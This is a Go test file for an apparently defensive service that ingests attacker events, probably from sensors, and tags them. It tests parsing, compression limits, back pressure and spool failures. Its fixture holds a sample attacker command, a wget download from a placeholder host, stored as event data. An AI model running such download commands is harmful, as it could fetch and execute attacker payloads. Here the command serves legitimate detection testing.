package api

import (
	"bytes"
	"compress/gzip"
	"errors"
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"ttpctl/internal/event"
	"ttpctl/internal/lines"
)

func eventLine(id string) string {
	return fmt.Sprintf(`{"source_kind":"command","source_id":%q,"attacker_ip":"203.0.113.9","payload":{"command_text":"wget http://192.0.2.7/x"}}`, id)
}

func zipped(t testing.TB, text string) string {
	t.Helper()
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	if _, err := io.WriteString(z, text); err != nil {
		t.Fatal(err)
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// spooled ends the log and returns its lines.
func (b *bench) spooled() (all []string) {
	b.t.Helper()
	b.log.End()
	b.follow(func(blk *lines.Block) bool {
		for i := range blk.Lines {
			all = append(all, string(blk.Raw(i)))
		}
		return true
	})
	return all
}

// follow gives the blocks of the log to yield, until that has enough or the log
// ends.
func (b *bench) follow(yield func(*lines.Block) bool) {
	src, err := b.log.Source(&lines.Input{}, lines.SourceOptions{})
	if err != nil {
		b.t.Error(err)
		return
	}
	defer src.Close()
	for blk := (&lines.Block{}); ; blk.Reset() {
		err := src.Next(b.t.Context(), blk)
		if errors.Is(err, io.EOF) {
			return
		}
		if err != nil {
			b.t.Error(err)
			return
		}
		if !yield(blk) {
			return
		}
	}
}

func TestEvents(t *testing.T) {
	bad := `{"source_kind":"command","source_id":"b"}`
	for _, tt := range []struct {
		name, body string
		headers    []string
		status     int
		answer     string
		stored     []string
	}{
		{"lines", eventLine("a") + "\n\r\n" + eventLine("b") + "\r\n", nil, 202, `{"accepted":2,"rejected":[],"tags_new":null}`, []string{eventLine("a"), eventLine("b")}},
		{"mark, no ending", "\xef\xbb\xbf" + eventLine("a"), nil, 202, `"accepted":1`, []string{eventLine("a")}},
		{"array", "\n [ " + eventLine("a") + ",\n{ \"source_kind\": \"odd\",\n \"source_id\":\"o\", \"attacker_uuid\":\"u\",\"payload\":{}}, 7]\n",
			[]string{"Content-Type", "application/json; charset=utf-8"}, 202, `{"accepted":2,"rejected":[{"line":3,"reason":"not a JSON object"}],"tags_new":null}`,
			[]string{eventLine("a"), `{"source_kind":"odd","source_id":"o","attacker_uuid":"u","payload":{}}`}},
		{"rejected", bad + "\nnot json\n" + eventLine("a") + "\n" + `{"source_kind":"command","source_id":"x","payload":{}}`, nil, 202,
			`"rejected":[{"line":1,"reason":"payload is missing"},{"line":2,"reason":"not a JSON object"},{"line":4,"reason":"no anchor: attacker_uuid, identity_uuid and attacker_ip are missing"}]`,
			[]string{eventLine("a")}},
		{"all rejected", bad, nil, 200, `"accepted":0,"rejected":[{"line":1,"reason":"payload is missing"}],"tags_new":0`, nil},
		{"nothing", "", nil, 200, `{"accepted":0,"rejected":[],"tags_new":0}`, nil},
		{"empty array", "[]", nil, 200, `{"accepted":0,"rejected":[],"tags_new":0}`, nil},
		{"gzip", zipped(t, eventLine("a")), []string{"Content-Encoding", "gzip"}, 202, `"accepted":1`, []string{eventLine("a")}},
		{"no gzip", eventLine("a"), []string{"Content-Encoding", "gzip"}, 400, "not what gzip makes", nil},
		{"cut gzip", zipped(t, eventLine("a"))[:40], []string{"Content-Encoding", "gzip"}, 400, "could not be read to its end", nil},
		{"zstd", eventLine("a"), []string{"Content-Encoding", "zstd"}, 415, "neither gzip nor identity", nil},
		{"XML", eventLine("a"), []string{"Content-Type", "text/xml"}, 415, "Content-Type", nil},
		{"array without an end", "[" + eventLine("a"), nil, 400, "element 2 of the array", nil},
		{"array of rubbish", "[" + eventLine("a") + ", x]", nil, 400, "element 2 of the array", nil},
		{"data behind the array", "[] []", nil, 400, "data after the array", nil},
		{"too large", strings.Repeat(" ", 3000), nil, 413, "larger than 2000 bytes", nil},
		{"bomb", zipped(t, strings.Repeat(" ", 1<<20)), []string{"Content-Encoding", "gzip"}, 413, "inflates to more than 3000 bytes", nil},
		{"too many", strings.Repeat("x\n", 11), nil, 413, "more than 10 events", nil},
		{"too many in an array", "[" + strings.Repeat("0,", 10) + "0]", nil, 413, "more than 10 events", nil},
	} {
		t.Run(tt.name, func(t *testing.T) {
			b := newBench(t, func(c *Config) { c.Limits = Limits{Body: 2000, Inflated: 3000, Events: 10, Wait: time.Millisecond} })
			b.do("POST", "/v1/events", ingestToken, tt.body, tt.headers...).want(t, tt.status, tt.answer)
			if diff := cmp.Diff(tt.stored, b.spooled()); diff != "" {
				t.Errorf("stored (-want +got):\n%s", diff)
			}
		})
	}
}

// A request waits until its events are judged, and is told of its own new tags:
// those of others, and those that were stored before, do not count.
func TestTagsNew(t *testing.T) {
	b := newBench(t, func(c *Config) { c.Limits.Wait = 10 * time.Second })
	session := `{"source_kind":"session","source_id":"s","attacker_ip":"203.0.113.9","payload":{"commands":["a",{"command_text":"b","id":"own"}]}}`
	go b.follow(func(blk *lines.Block) bool {
		fresh := []event.Tag{{SourceID: "a"}, {SourceID: "a"}, {SourceID: "s"}, {SourceID: "s#cmd0"}, {SourceID: "own"}, {SourceID: "other"}}
		b.srv.Committed("", fresh[:1]) // judged in part
		b.srv.Committed("", nil)
		b.srv.Committed(blk.Cursor, fresh[1:])
		return false
	})
	b.do("POST", "/v1/events", ingestToken, eventLine("a")+"\n"+session+"\n"+eventLine("none")).want(t, 200, `{"accepted":3,"rejected":[],"tags_new":5}`)
	if n := len(b.srv.wait.all) + len(b.srv.wait.byID); n != 0 {
		t.Errorf("%d waiters and ids are kept", n)
	}
}

// What takes longer than the wait is answered without a number, and a commit
// that comes then finds nobody.
func TestNotJudged(t *testing.T) {
	b := newBench(t, nil)
	b.do("POST", "/v1/events", ingestToken, eventLine("a")).want(t, 202, `"tags_new":null`)
	b.log.End()
	b.follow(func(blk *lines.Block) bool { b.srv.Committed(blk.Cursor, []event.Tag{{SourceID: "a"}}); return true })
	if n := len(b.srv.wait.all) + len(b.srv.wait.byID); n != 0 {
		t.Errorf("%d waiters and ids are kept", n)
	}
}

func TestBackPressure(t *testing.T) {
	b := newBench(t, func(c *Config) { c.Limits.Turn = 10 * time.Millisecond })
	for range cap(b.srv.intakes) {
		b.srv.intakes <- struct{}{}
	}
	got := b.do("POST", "/v1/events", ingestToken, eventLine("a"))
	got.want(t, 429, "as many requests")
	b.srv.cfg.Limits.Turn = time.Minute
	time.AfterFunc(5*time.Millisecond, func() {
		for range cap(b.srv.intakes) {
			<-b.srv.intakes
		}
	})
	b.do("POST", "/v1/events", ingestToken, eventLine("a")).want(t, 202, "")
	b.log.End()
	b.do("POST", "/v1/events", ingestToken, eventLine("a")).want(t, 503, "being stopped")
}

// A spool that is full, or fails, takes nothing in; the key may be used again.
func TestSpoolFails(t *testing.T) {
	s := &failingSpool{}
	b := newBench(t, func(c *Config) { s.Spool, c.Spool = c.Spool, s })
	for _, tt := range []struct {
		err    error
		status int
	}{{errFull(), 429}, {errors.New("/var/lib/spool: input/output error"), 503}} {
		s.err = tt.err
		got := b.do("POST", "/v1/events", ingestToken, eventLine("a"), "Idempotency-Key", "k")
		got.want(t, tt.status, "")
		if got.Header.Get("Retry-After") == "" || strings.Contains(got.body, "/var/lib") {
			t.Errorf("%d with %v says %s", got.StatusCode, got.Header, got.body)
		}
	}
	seen := b.accesses()
	if last := seen[len(seen)-1]; last.Err == nil || last.Status != 503 || last.Route != "/v1/events" || last.Token != "sensors" {
		t.Errorf("the access log says %+v", last)
	}
	s.err = nil
	b.do("POST", "/v1/events", ingestToken, eventLine("a"), "Idempotency-Key", "k").want(t, 202, `"accepted":1`)
}

// Shutdown answers those who wait.
func TestShutdownAnswers(t *testing.T) {
	b := newBench(t, func(c *Config) { c.Limits.Wait = time.Hour })
	done := make(chan reply)
	go func() { done <- b.do("POST", "/v1/events", ingestToken, eventLine("a")) }()
	b.awaitWaiter()
	b.srv.stopped()
	r := <-done
	r.want(t, http.StatusAccepted, `"tags_new":null`)
}

// awaitWaiter polls until a request waits for its events, which are synced.
func (b *bench) awaitWaiter() {
	b.t.Helper()
	waits := func() bool {
		b.srv.wait.mu.Lock()
		defer b.srv.wait.mu.Unlock()
		for w := range b.srv.wait.all {
			return w.end != ""
		}
		return false
	}
	for begin := time.Now(); !waits(); time.Sleep(time.Millisecond) {
		if time.Since(begin) > 10*time.Second {
			b.t.Fatal("waited 10 s in vain for a request that waits")
		}
	}
}
